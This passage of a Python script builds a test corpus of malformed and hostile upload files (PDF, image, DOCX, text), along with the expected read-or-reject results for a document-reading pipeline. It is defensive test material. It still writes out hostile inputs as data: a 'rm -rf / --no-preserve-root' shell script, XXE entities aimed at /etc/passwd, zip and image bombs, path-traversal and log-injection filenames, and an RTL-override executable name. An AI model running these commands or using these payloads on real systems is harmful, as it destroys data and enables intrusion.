            pdf_compact_cut_before_xref_stream,
        ),
        E(
            "pdf_xref_offsets_wrong.pdf",
            "pdf/corrupt-xref",
            "Every xref offset is 37 bytes off.",
            read(),
            pdf_xref_offsets_shifted,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "pdf_xref_garbage.pdf",
            "pdf/corrupt-xref",
            "The xref table is overwritten with random letters and digits (pdfium's repair gives up on junk "
            "between "
            "the last object and the trailer).",
            rejected("pdf_damaged"),
            pdf_xref_garbage,
        ),
        E(
            "pdf_xref_missing.pdf",
            "pdf/corrupt-xref",
            "The xref table is gone; the trailer and startxref remain.",
            read(),
            pdf_xref_missing,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "pdf_startxref_past_eof.pdf",
            "pdf/corrupt-xref",
            "startxref points 987 MB past the end of the file.",
            read(),
            pdf_startxref_past_end,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "pdf_xref_prev_loop.pdf",
            "pdf/corrupt-xref",
            "The trailer's /Prev points at its own xref section.",
            read(),
            pdf_xref_prev_loop,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "pdf_xref_two_billion_entries.pdf",
            "pdf/corrupt-xref",
            "The xref subsection and /Size claim 2^31-1 entries.",
            read(),
            pdf_xref_huge_subsection,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "pdf_garbage_after_header.pdf",
            "pdf/garbage",
            "A %PDF-1.7 header followed by 4 KB of random bytes.",
            rejected("pdf_damaged"),
            pdf_garbage_after_header,
        ),
        E(
            "pdf_header_only.pdf",
            "pdf/garbage",
            "Nothing but the 9-byte header line.",
            rejected("pdf_damaged"),
            pdf_header_only,
        ),
        # ---- PDF: encryption ------------------------------------------------------------------------
        E(
            "pdf_rc4_40_user_password.pdf",
            "pdf/encrypted",
            "RC4 40-bit (V1 R2), user password 'user-secret-7'.",
            rejected("pdf_encrypted"),
            encrypted_pdf(2, "user-secret-7"),
            password="user-secret-7",
        ),
        E(
            "pdf_rc4_128_user_password.pdf",
            "pdf/encrypted",
            "RC4 128-bit (V2 R3), user password 'user-secret-7'.",
            rejected("pdf_encrypted"),
            encrypted_pdf(3, "user-secret-7"),
            password="user-secret-7",
        ),
        E(
            "pdf_aes_128_user_password.pdf",
            "pdf/encrypted",
            "AES-128 (V4 R4 AESV2), user password 'user-secret-7'.",
            rejected("pdf_encrypted"),
            encrypted_pdf(4, "user-secret-7"),
            password="user-secret-7",
        ),
        E(
            "pdf_aes_256_user_password.pdf",
            "pdf/encrypted",
            "AES-256 (V5 R6 AESV3), user password 'user-secret-7'.",
            rejected("pdf_encrypted"),
            encrypted_pdf(6, "user-secret-7"),
            password="user-secret-7",
        ),
        E(
            "pdf_rc4_40_owner_only.pdf",
            "pdf/encrypted",
            "RC4 40-bit with an empty user password (owner password only: opens without asking, so it is "
            "read).",
            read(),
            encrypted_pdf(2, ""),
            expect_text=CANARY_WORD,
            pages=1,
        ),
        E(
            "pdf_rc4_128_owner_only.pdf",
            "pdf/encrypted",
            "RC4 128-bit, owner password only: read.",
            read(),
            encrypted_pdf(3, ""),
            expect_text=CANARY_WORD,
            pages=1,
        ),
        E(
            "pdf_aes_128_owner_only.pdf",
            "pdf/encrypted",
            "AES-128, owner password only: read.",
            read(),
            encrypted_pdf(4, ""),
            expect_text=CANARY_WORD,
            pages=1,
        ),
        E(
            "pdf_aes_256_owner_only.pdf",
            "pdf/encrypted",
            "AES-256 (R6), owner password only: read.",
            read(),
            encrypted_pdf(6, ""),
            expect_text=CANARY_WORD,
            pages=1,
        ),
        E(
            "pdf_certificate_encrypted.pdf",
            "pdf/encrypted",
            "Public-key (certificate) security handler Adobe.PubSec.",
            rejected("pdf_encrypted"),
            encrypted_pdf_handler(b"Adobe.PubSec"),
        ),
        E(
            "pdf_drm_handler_encrypted.pdf",
            "pdf/encrypted",
            "A third-party DRM security handler (FOPN_fLock).",
            rejected("pdf_encrypted"),
            encrypted_pdf_handler(b"FOPN_fLock"),
        ),
        # ---- PDF: active content --------------------------------------------------------------------
        E(
            "pdf_javascript_actions.pdf",
            "pdf/active-content",
            "OpenAction JavaScript, document and page /AA, Launch actions, a form field whose scripts would "
            "write "
            "EXECUTED; page 2 is a blank image (goes to OCR, rendered with forms). Text read, nothing run.",
            read(30),
            pdf_javascript_actions,
            expect_text=CANARY_WORD,
            pages=2,
            forbid_text=["EXECUTED", "app.alert", "launchURL"],
        ),
        E(
            "pdf_embedded_files.pdf",
            "pdf/active-content",
            "Embedded files (a program and a PDF) in the name tree and a file-attachment annotation: only "
            "the "
            "host page is read.",
            read(),
            pdf_with_attachments,
            expect_text=CANARY_WORD,
            pages=1,
            forbid_text=[HIDDEN],
        ),
        E(
            "pdf_xfa_dynamic_form.pdf",
            "pdf/xfa",
            "A dynamic XFA form (NeedsRendering) with a placeholder page.",
            rejected("pdf_xfa"),
            pdf_xfa,
        ),
        E(
            "pdf_no_pages.pdf",
            "pdf/empty",
            "A valid PDF whose page tree is empty.",
            rejected("pdf_no_pages"),
            pdf_no_pages,
        ),
        # ---- PDF: page trees ------------------------------------------------------------------------
        E(
            "pdf_3000_empty_pages.pdf",
            "pdf/many-pages",
            "3,000 distinct empty pages, packed in object streams.",
            read(30),
            pdf_many_empty_pages(3000),
            pages=3000,
        ),
        E(
            "pdf_50000_pages.pdf",
            "pdf/many-pages",
            "50,000 empty page objects: over the 5,000-page limit.",
            rejected("too_many_pages"),
            pdf_many_empty_pages(50_000, fan_out=1000),
        ),
        E(
            "pdf_page_tree_self_loop.pdf",
            "pdf/page-tree",
            "The root Pages node lists itself as a kid.",
            read(),
            pdf_tree_self_loop,
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_page_tree_mutual_loop.pdf",
            "pdf/page-tree",
            "Two Pages nodes that are each other's only kid, before the one real page: pdfium counts 2 "
            "pages and "
            "loads neither, so reading must not pass it off as a blank record.",
            rejected("pdf_damaged", stage="read"),
            pdf_tree_mutual_loop,
        ),
        E(
            "pdf_page_tree_kid_is_catalog.pdf",
            "pdf/page-tree",
            "The page tree lists the catalog as a kid.",
            read(),
            pdf_kids_point_at_catalog,
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_count_two_billion.pdf",
            "pdf/page-tree",
            "One page; the root node's /Count says 2,147,483,647.",
            read(),
            pdf_count_lies(2_147_483_647),
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_count_4999.pdf",
            "pdf/page-tree",
            "One page; /Count says 4,999 (just under the page limit): pdfium believes it, so 4,998 blank "
            "pages follow.",
            read(),
            pdf_count_lies(4999),
            expect_text=CANARY_WORD,
        ),
        # ---- PDF: nesting, streams, images -----------------------------------------------------------
        E(
            "pdf_deep_arrays.pdf",
            "pdf/nesting",
            "A page dictionary value nested 100,000 arrays deep.",
            read(),
            pdf_deep_arrays,
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_deep_dicts.pdf",
            "pdf/nesting",
            "A page dictionary value nested 50,000 dictionaries deep.",
            read(),
            pdf_deep_dicts,
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_deep_content_nesting.pdf",
            "pdf/nesting",
            "Content with 200,000 nested q/Q saves and a 100,000-deep TJ array.",
            read(),
            pdf_deep_content_nesting,
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_form_self_recursion.pdf",
            "pdf/nesting",
            "A form XObject that draws itself: a drawing loop, refused before pdfium loads the page.",
            rejected("pdf_too_complex"),
            pdf_form_self_recursion,
        ),
        E(
            "pdf_form_fan_out_2pow30.pdf",
            "pdf/nesting",
            "Form XObjects each drawing the next twice, 30 levels: a billion form draws from 5 KB (pdfium's "
            "page "
            "load doubles in time and memory per level: 18 levels take 2 s and 730 MB); refused by measuring "
            "the drawing graph first.",
            rejected("pdf_too_complex"),
            pdf_form_fan_out(30),
        ),
        E(
            "pdf_form_loop_fan_out.pdf",
            "pdf/nesting",
            "A form drawing a second form twice, which draws the first again through the page's resources: "
            "pdfium recurses to its nesting limit (14 s and 5 GB to load the page); refused as a drawing loop.",
            rejected("pdf_too_complex"),
            pdf_form_fan_out(1, loop=True),
        ),
        E(
            "pdf_huge_text_shared_stream.pdf",
            "pdf/text-bomb",
            "20 pages sharing one compressed content stream that shows a million characters: 20 million "
            "characters "
            "from a 10 KB file (each page takes ~3.5 s and ~280 MB to lay out).",
            read(30),
            pdf_huge_text_shared(20, 1_000_000),
        ),
        E(
            "pdf_huge_declared_length.pdf",
            "pdf/stream",
            "A content stream whose /Length is 9,999,999,999.",
            read(),
            pdf_huge_declared_length(b"9999999999"),
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_negative_length.pdf",
            "pdf/stream",
            "A content stream whose /Length is -1000.",
            read(),
            pdf_huge_declared_length(b"-1000"),
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_length_missing_ref.pdf",
            "pdf/stream",
            "A content stream whose /Length is a reference to no object.",
            read(),
            pdf_huge_declared_length(b"999 0 R"),
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_flate_bomb_content.pdf",
            "pdf/stream",
            "A content stream inflating 1,000:1 to 32 MB of whitespace.",
            read(30),
            pdf_flate_bomb_content,
            expect_text=CANARY_WORD,
        ),
        E(
            "pdf_corrupt_flate.pdf",
            "pdf/stream",
            "The page's Flate content stream has 28 corrupted bytes.",
            read(),
            pdf_corrupt_flate_content,
        ),
        E(
            "pdf_image_bomb_flate.pdf",
            "pdf/image-bomb",
            "A text-less page showing a 60,000 x 60,000 Flate image (3.6 GB decoded); it goes to OCR.",
            read(60),
            pdf_image_bomb_flate,
        ),
        E(
            "pdf_image_bomb_dct.pdf",
            "pdf/image-bomb",
            "A text-less page showing a JPEG whose header claims 65,000 x 65,000 pixels; it goes to OCR.",
            read(60),
            pdf_image_bomb_dct,
        ),
        E(
            "pdf_mediabox_1e30.pdf",
            "pdf/geometry",
            "A page 10^30 points square covered by an image (OCR render).",
            read(30),
            pdf_absurd_mediabox,
        ),
        E(
            "pdf_mediabox_zero.pdf",
            "pdf/geometry",
            "A page with a zero-area MediaBox and an image (OCR render).",
            read(30),
            pdf_zero_mediabox,
        ),
        E(
            "pdf_poster_page.pdf",
            "pdf/geometry",
            "A 200 x 200 inch page covered by a blank image (OCR, scaled down).",
            read(60),
            pdf_poster_page,
        ),
        # ---- Images -------------------------------------------------------------------------------
        E(
            "image_bomb_100k.png",
            "image/bomb",
            "PNG header claiming 100,000 x 100,000 pixels.",
            rejected("image_too_large"),
            png_bomb_header,
        ),
        E(
            "image_bomb_65k.jpg",
            "image/bomb",
            "JPEG whose frame header claims 65,000 x 65,000 pixels.",
            rejected("image_too_large"),
            jpeg_bomb_header,
        ),
        E(
            "image_bomb_100k.tif",
            "image/bomb",
            "TIFF whose IFD claims 100,000 x 100,000 pixels.",
            rejected("image_too_large"),
            tiff_bomb_header,
        ),
        E(
            "image_bomb_65k.gif",
            "image/bomb",
            "GIF whose screen and frame claim 65,535 x 65,535 pixels.",
            rejected("image_too_large"),
            lambda: gif(65535, 65535, pixels=1),
        ),
        E(
            "image_bomb_100k.bmp",
            "image/bomb",
            "BMP header claiming 100,000 x 100,000 pixels at 24 bits.",
            rejected("image_too_large"),
            bmp_bomb_header,
        ),
        E(
            "image_bomb_16k.webp",
            "image/bomb",
            "WebP whose canvas is 16,384 x 16,384 with a 1-pixel frame.",
            rejected("image_too_large"),
            webp_bomb_header,
        ),
        E(
            "image_truncated.png",
            "image/truncated",
            "A 300 x 200 PNG cut in half.",
            rejected("image_damaged"),
            png_truncated,
        ),
        E(
            "image_truncated.jpg",
            "image/truncated",
            "A 640 x 480 JPEG missing its last 40 bytes.",
            rejected("image_damaged"),
            jpeg_truncated,
        ),
        E(
            "image_signature_only.png",
            "image/truncated",
            "Nothing but the 8-byte PNG signature.",
            rejected("image_damaged"),
            lambda: b"\x89PNG\r\n\x1a\n",
        ),
        E(
            "image_zero_size.png",
            "image/zero-size",
            "A PNG whose IHDR says 0 x 0 pixels.",
            rejected("image_damaged"),
            lambda: png(0, 0, pixels=b""),
        ),
        E(
            "image_zero_size.gif",
            "image/zero-size",
            "A GIF of 0 x 0 pixels.",
            rejected("image_damaged"),
            lambda: gif(0, 0),
        ),
        E(
            "image_zero_size.tif",
            "image/zero-size",
            "A TIFF of 0 x 0 pixels.",
            rejected("image_damaged"),
            lambda: tiff([(0, 0)]),
        ),
        E(
            "image_1200_frames.tif",
            "image/multi-frame",
            "A TIFF of 1,200 one-pixel frames (under the page limit).",
            read(60),
            lambda: tiff([(1, 1)] * 1200),
            pages=1200,
        ),
        E(
            "image_5001_frames.tif",
            "image/multi-frame",
            "A TIFF of 5,001 one-pixel frames: over the page limit.",
            rejected("too_many_pages"),
            lambda: tiff([(1, 1)] * 5001),
            generated=True,
        ),
        E(
            "image_late_bomb_frame.tif",
            "image/multi-frame",
            "1,100 one-pixel frames, then a frame claiming 100,000 x 100,000 pixels (check_record looks at "
            "the first "
            "1,000 frames; reading stops at the bomb).",
            rejected("image_too_large", stage="read"),
            lambda: tiff([(1, 1)] * 1100 + [(100_000, 100_000)]),
        ),
        E(
            "image_ifd_loop.tif",
            "image/multi-frame",
            "A TIFF whose second IFD links back to the first (a cycle).",
            read(),
            lambda: tiff([(1, 1), (1, 1)], loop=True),
        ),
        E(
            "image_big_blank.png",
            "image/large",
            "A 9,000 x 9,000 one-bit white PNG (10 KB; OCR'd scaled down).",
            read(60),
            png_big_blank,
            pages=1,
        ),
        E(
            "image_ztxt_bomb.png",
            "image/large",
            "A 32 x 32 PNG with a zTXt chunk inflating to 16 MB (Pillow refuses text chunks over 1 MB).",
            rejected("image_damaged"),
            png_ztxt_bomb,
        ),
        E(
            "image_bad_pixels.png",
            "image/damaged",
            "A PNG whose chunks and CRCs are valid but whose rows use a filter type that does not exist "
            "(found only "
            "when decoding, which check_record leaves to reading).",
            rejected("image_damaged", stage="read"),
            png_bad_pixels,
        ),
        E(
            "image_tiny_blank.png",
            "image/no-text",
            "A valid 16 x 16 white PNG: no text to find.",
            read(),
            lambda: png(16, 16),
            pages=1,
        ),
        E(
            "image_heic_photo.jpg",
            "image/unsupported",
            "An iPhone HEIC header named .jpg.",
            rejected("heic"),
            heic_header,
        ),
        # ---- DOCX and other packages ---------------------------------------------------------------
        E(
            "docx_zip_bomb.docx",
            "docx/zip-bomb",
            "A 40 MB part of zeros deflated 1,000:1 into ~40 KB.",
            rejected("zip_bomb"),
            docx_zip_bomb,
        ),
        E(
            "docx_lying_sizes.docx",
            "docx/zip-bomb",
            "document.xml declares 2 KB but inflates to 40 MB (the reader must stop at the declared size).",
            rejected("docx_damaged"),
            docx_lying_sizes,
        ),
        E(
            "docx_lying_size_bomb.docx",
            "docx/zip-bomb",
            "[Content_Types].xml declares its true ~450 bytes, but its 2 MB of deflate data inflate to 2 GB.",
            rejected("docx_damaged"),
            docx_lying_size_bomb,
            generated=True,
        ),
        E(
            "docx_overlapping_entries.docx",
            "docx/zip-bomb",
            "320 central-directory entries sharing one 1 MB member: 320 MB declared, ~35 KB on disk.",
            rejected("zip_bomb"),
            docx_overlapping_entries,
        ),
        E(
            "docx_nested_zip.docx",
            "docx/nested-zip",
            "A valid DOCX embedding a ZIP that holds a zip bomb (never opened).",
            read(),
            docx_nested_zip,
            expect_text=CANARY_WORD,
            forbid_text=[HIDDEN],
        ),
        E(
            "zip_holding_docx.docx",
            "docx/nested-zip",
            "A plain ZIP whose only member is a .docx.",
            rejected("zip"),
            zip_of_docx,
        ),
        E(
            "docx_2000_members.docx",
            "docx/many-members",
            "A valid DOCX with 2,000 extra empty members.",
            read(),
            docx_many_members(2000),
            expect_text=CANARY_WORD,
        ),
        E(
            "docx_10001_members.docx",
            "docx/many-members",
            "A DOCX with 10,001 extra members: over the member limit.",
            rejected("zip_bomb"),
            docx_many_members(10_001),
            generated=True,
        ),
        E(
            "docx_path_traversal_members.docx",
            "docx/path-traversal",
            "Members named ../../evil.xml, /etc/cron.d/evil and ..\\..\\windows\\evil.xml (nothing is "
            "extracted).",
            read(),
            docx_path_traversal_members,
            expect_text=CANARY_WORD,
        ),
        E(
            "docx_styles_rel_traversal.docx",
            "docx/path-traversal",
            "The styles relationship targets ../../../../etc/passwd and an external URL.",
            read(),
            docx_styles_rel_traversal,
            expect_text=CANARY_WORD,
            forbid_text=["root:"],
        ),
        E(
            "docx_xxe.docx",
            "docx/xml-entities",
            "document.xml declares an external entity to file:///etc/passwd.",
            rejected("docx_doctype"),
            docx_xxe,
        ),
        E(
            "docx_billion_laughs.docx",
            "docx/xml-entities",
            "document.xml declares a 'billion laughs' entity chain.",
            rejected("docx_doctype"),
            docx_billion_laughs,
        ),
        E(
            "docx_doctype_content_types.docx",
            "docx/xml-entities",
            "[Content_Types].xml carries a DOCTYPE with an entity.",
            rejected("docx_doctype"),
            docx_doctype_in_content_types,
        ),
        E(
            "docx_xxe_utf16.docx",
            "docx/xml-entities",
            "The XXE document part encoded as UTF-16 with a BOM.",
            rejected("docx_doctype"),
            docx_xxe_utf16,
        ),
        E(
            "docx_xxe_utf32.docx",
            "docx/xml-entities",
            "The XXE document part encoded as UTF-32 (UCS-4) without a BOM.",
            rejected("docx_doctype"),
            docx_xxe_utf32,
        ),
        E(
            "docx_xxe_utf32_bom.docx",
            "docx/xml-entities",
            "The XXE document part encoded as UTF-32 with a BOM.",
            rejected("docx_doctype"),
            docx_xxe_utf32_bom,
        ),
        E(
            "docx_xxe_utf7.docx",
            "docx/xml-entities",
            "The XXE document part declared UTF-7 ('<!' written '+ADwAIQ-').",
            rejected("docx_doctype"),
            docx_xxe_utf7,
        ),
        E(
            "docx_xxe_in_rels.docx",
            "docx/xml-entities",
            "_rels/.rels declares an external entity.",
            rejected("docx_doctype"),
            docx_xxe_in_rels,
        ),
        E(
            "docx_macro_enabled.docx",
            "docx/macros",
            "A .docm (macro-enabled type and vbaProject.bin) renamed .docx.",
            rejected("docx_macros"),
            docx_macro_enabled,
        ),
        E(
            "docx_macro_type_only.docx",
            "docx/macros",
            "Declares the macro-enabled main type, without vbaProject.bin.",
            rejected("docx_macros"),
            docx_macro_type_only,
        ),
        E(
            "docx_missing_document.docx",
            "docx/damaged",
            "No word/document.xml.",
            rejected("docx_damaged"),
            docx_missing_document,
        ),
        E(
            "docx_document_not_xml.docx",
            "docx/damaged",
            "word/document.xml is plain prose, not XML.",
            rejected("docx_damaged"),
            docx_document_not_xml,
        ),
        E(
            "docx_main_part_elsewhere.docx",
            "docx/damaged",
            "[Content_Types].xml names a main part that is not there.",
            rejected("docx_damaged"),
            docx_main_part_missing,
        ),
        E(
            "docx_no_content_types.docx",
            "docx/damaged",
            "word/ parts but no [Content_Types].xml.",
            rejected("docx_damaged"),
            docx_no_content_types,
        ),
        E(
            "docx_deep_xml.docx",
            "docx/damaged",
            "document.xml nests 100,000 content controls (over libxml2's depth limit).",
            rejected("docx_damaged"),
            docx_deep_xml,
        ),
        E(
            "docx_truncated.docx",
            "docx/damaged",
            "A DOCX cut in half (no central directory).",
            rejected("docx_damaged"),
            docx_truncated,
        ),
        E(
            "docx_zipcrypto_member.docx",
            "docx/damaged",
            "document.xml flagged as ZIP-encrypted.",
            rejected("docx_damaged"),
            docx_zipcrypto_flag,
        ),
        E(
            "docx_unknown_compression.docx",
            "docx/damaged",
            "document.xml compressed with method 99 (WinZip AES).",
            rejected("docx_damaged"),
            docx_unknown_compression,
        ),
        E(
            "docx_encrypted_ole.docx",
            "docx/encrypted",
            "A password-protected DOCX (an OLE file of EncryptedPackage).",
            rejected("office_encrypted"),
            ole_encrypted_docx,
        ),
        E(
            "doc_legacy_ole.docx",
            "docx/legacy",
            "A Word 97-2003 .doc (OLE WordDocument stream) renamed .docx.",
            rejected("doc_legacy"),
            ole_word_doc,
        ),
        E(
            "xls_legacy_ole.docx",
            "docx/legacy",
            "An Excel 97-2003 .xls (OLE Workbook stream) renamed .docx.",
            rejected("office_legacy"),
            ole_excel,
        ),
        E(
            "rtf_renamed.docx",
            "docx/wrong-format",
            "An RTF document renamed .docx.",
            rejected("rtf"),
            lambda: RTF,
        ),
        E(
            "xlsx_renamed.docx",
            "docx/wrong-format",
            "An Excel workbook renamed .docx.",
            rejected("xlsx"),
            xlsx_bytes,
        ),
        E(
            "pptx_renamed.docx",
            "docx/wrong-format",
            "A PowerPoint deck renamed .docx.",
            rejected("pptx"),
            pptx_bytes,
        ),
        E(
            "odt_renamed.docx",
            "docx/wrong-format",
            "An OpenDocument text renamed .docx.",
            rejected("odt"),
            odt_bytes,
        ),
        E(
            "dotx_renamed.docx",
            "docx/wrong-format",
            "A Word template renamed .docx.",
            rejected("docx_template"),
            dotx_bytes,
        ),
        # ---- Polyglots and wrong names --------------------------------------------------------------
        E(
            "polyglot_pdf_zip.pdf",
            "polyglot",
            "A PDF with a DOCX appended: read as the PDF only.",
            read(),
            pdf_zip_polyglot,
            expect_text=CANARY_WORD,
            forbid_text=[HIDDEN],
            pages=1,
        ),
        E(
            "polyglot_docx_pdf_comment.docx",
            "polyglot",
            "A small DOCX whose archive comment is a PDF, so a PDF header sits within the first 1 KB: read "
            "as the PDF.",
            read(),
            docx_pdf_polyglot,
            expect_text="Polyglot PDF part",
        ),
        E(
            "polyglot_png_magic_pdf.png",
            "polyglot",
            "PNG signature followed by a PDF: read as the PDF.",
            read(),
            png_magic_pdf,
            expect_text=CANARY_WORD,
            pages=1,
        ),
        E(
            "polyglot_pdf_after_1100_junk.pdf",
            "polyglot",
            "1,100 bytes of binary junk, then a PDF: not a PDF.",
            rejected("not_a_record"),
            pdf_after_1k_junk,
        ),
        E(
            "polyglot_gifar.gif",
            "polyglot",
            "A GIF with a JAR (ZIP) appended: read as the image.",
            read(),
            gifar,
            pages=1,
        ),
        E(
            "html_with_script.pdf",
            "polyglot",
            "An HTML page with <script>, named .pdf: plain text, never run.",
            read(),
            lambda: HTML,
            expect_text=CANARY_WORD,
        ),
        E(
            "real_pdf.txt",
            "wrong-extension",
            "A valid PDF named .txt.",
            read(),
            reference_pdf,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "real_docx.pdf",
            "wrong-extension",
            "A valid DOCX named .pdf.",
            read(),
            docx_bytes,
            expect_text=CANARY_WORD,
        ),
        E(
            "real_png.docx",
            "wrong-extension",
            "A valid blank PNG named .docx.",
            read(),
            lambda: png(32, 32),
            pages=1,
        ),
        # ---- Programs -------------------------------------------------------------------------------
        E(
            "program_elf.pdf",
            "program",
            "A Linux ELF executable header named .pdf.",
            rejected("program"),
            lambda: ELF_HEADER + bytes(256),
        ),
        E(
            "program_pe.docx",
            "program",
            "A Windows PE executable (MZ ... PE) named .docx.",
            rejected("program"),
            pe_program,
        ),
        E(
            "program_macho.png",
            "program",
            "A macOS Mach-O executable named .png.",
            rejected("program"),
            macho_program,
        ),
        E(
            "program_shell_script.txt",
            "program",
            "A shell script: plain text, read and never run.",
            read(),
            lambda: b"#!/bin/sh\nrm -rf / --no-preserve-root\n# " + CANARY.encode() + b"\n",
            expect_text=CANARY_WORD,
        ),
        # ---- Plain text -----------------------------------------------------------------------------
        E(
            "text_latin1.txt",
            "text/encoding",
            "Latin-1 (not UTF-8) text with accented names.",
            read(),
            latin1_text,
            expect_text="Señora Núñez",
        ),
        E(
            "text_utf16_bom.txt",
            "text/encoding",
            "UTF-16 with a byte-order mark and CRLF lines.",
            read(),
            utf16_bom_text,
            expect_text="Informe médico",
        ),
        E(
            "text_utf16be_no_bom.txt",
            "text/encoding",
            "UTF-16 big-endian without a byte-order mark.",
            read(),
            utf16be_no_bom,
            expect_text=CANARY_WORD,
        ),
        E(
            "text_bad_utf16.txt",
            "text/encoding",
            "A UTF-16 BOM, then a lone surrogate and an odd trailing byte.",
            rejected("not_a_record"),
            bad_utf16,
        ),
        E(
            "text_nul_bytes.txt",
            "text/nul",
            "UTF-8 text with NUL bytes in its first line.",
            rejected("not_a_record"),
            text_nul_in_head,
        ),
        E(
            "text_nul_after_64k.txt",
            "text/nul",
            "70 KB of UTF-8 text with NUL padding at the very end.",
            read(),
            text_nul_after_head,
            expect_text=CANARY_WORD,
            forbid_text=["\x00"],
        ),
        E(
            "text_binary_garbage.txt",
            "text/binary",
            "8 KB of random bytes named .txt.",
            rejected("not_a_record"),
            binary_garbage,
        ),
        E(
            "text_ansi_escapes.txt",
            "text/control",
            "Text with terminal escape sequences (clear screen, set title).",
            read(),
            ansi_escapes,
            expect_text=CANARY_WORD,
        ),
        E(
            "text_6000_form_feeds.txt",
            "text/many-pages",
            "One line, then 6,000 form feeds: 6,001 pages.",
            rejected("too_many_pages"),
            lambda: form_feeds(6000),
        ),
        E(
            "text_one_line_5mb.txt",
            "text/large",
            "A single 5 MB line with no newline.",
            read(),
            lambda: long_line(5 * 1024 * 1024),
            generated=True,
            pages=1,
        ),
        E("empty.pdf", "empty", "A zero-byte file.", rejected("empty"), lambda: b""),
        E(
            "whitespace_only.txt",
            "empty",
            "Spaces, tabs and newlines only.",
            read(),
            lambda: b"  \t\n\n   \r\n\t \n",
            pages=1,
        ),
        # ---- Hostile upload names ---------------------------------------------------------------------
        E(
            "name_path_traversal.pdf",
            "filename",
            "A valid PDF uploaded as ../../etc/passwd.pdf.",
            read(),
            one_page_pdf,
            upload_name="../../etc/passwd.pdf",
            expect_text=CANARY_WORD,
        ),
        E(
            "name_windows_traversal.pdf",
            "filename",
            "A truncated PDF uploaded as ..\\..\\Windows\\win.ini.pdf.",
            rejected("pdf_damaged"),
            pdf_truncated(0.15),
            upload_name="..\\..\\Windows\\win.ini.pdf",
        ),
        E(
            "name_control_chars.pdf",
            "filename",
            "A truncated PDF whose upload name holds NUL, CR, LF and ESC.",
            rejected("pdf_damaged"),
            pdf_truncated(0.15),
            upload_name="minutes\x00\r\n\x1b[2Jfinal.pdf",
        ),
        E(
            "name_newline_log_injection.txt",
            "filename",
            "Binary garbage uploaded under a name with a forged log line.",
            rejected("not_a_record"),
            binary_garbage,
            upload_name="note.txt\nINFO upload ok user=admin",
        ),
        E(
            "name_300_chars.pdf",
            "filename",
            "A truncated PDF uploaded under a 300-character name.",
            rejected("pdf_damaged"),
            pdf_truncated(0.15),
            upload_name="r" * 296 + ".pdf",
        ),
        E(
            "name_rtl_override.pdf",
            "filename",
            "An ELF program uploaded as 'invoice\\u202Efdp.exe' (shows as invoiceexe.pdf).",
            rejected("program"),
            lambda: ELF_HEADER + bytes(256),
            upload_name="invoice\u202efdp.exe",
        ),
        E(
            "name_unicode_lookalike.docx",
            "filename",
            "An XXE DOCX uploaded under a name of Cyrillic look-alikes.",
            rejected("docx_doctype"),
            docx_xxe,
            upload_name="\u0440\u0435\u0441\u043e\u0440\u0442.docx",
        ),
    ]


def generate(name: str, folder: Path) -> Path:
    """Write one corpus file (including the `generated` ones) into `folder`; return its path."""
    (entry,) = [e for e in entries() if e.name == name]
    path = folder / entry.name
    path.write_bytes(entry.make())
    return path


def build(out: Path) -> list[dict]:
    """Write the corpus and its manifest into `out`, removing files an earlier manifest there listed."""
    out.mkdir(parents=True, exist_ok=True)
    listed = out / "manifest.json"
    if listed.exists():
        for old in json.loads(listed.read_text()):
            (out / old["name"]).unlink(missing_ok=True)
    manifest = []
    for entry in entries():
        if not entry.generated:
            (out / entry.name).write_bytes(entry.make())
        manifest.append(entry.manifest())
    names = [e["name"] for e in manifest]
    assert len(names) == len(set(names)), "duplicate corpus names"
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=True) + "\n")
    return manifest


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT)
    args = parser.parse_args()
    manifest = build(args.out)
    files = [e for e in manifest if not e.get("generated")]
    size = sum((args.out / e["name"]).stat().st_size for e in files)
    print(f"{len(manifest)} entries ({len(files)} files, {size / 1024:.0f} KB) in {args.out}")


if __name__ == "__main__":
    main()
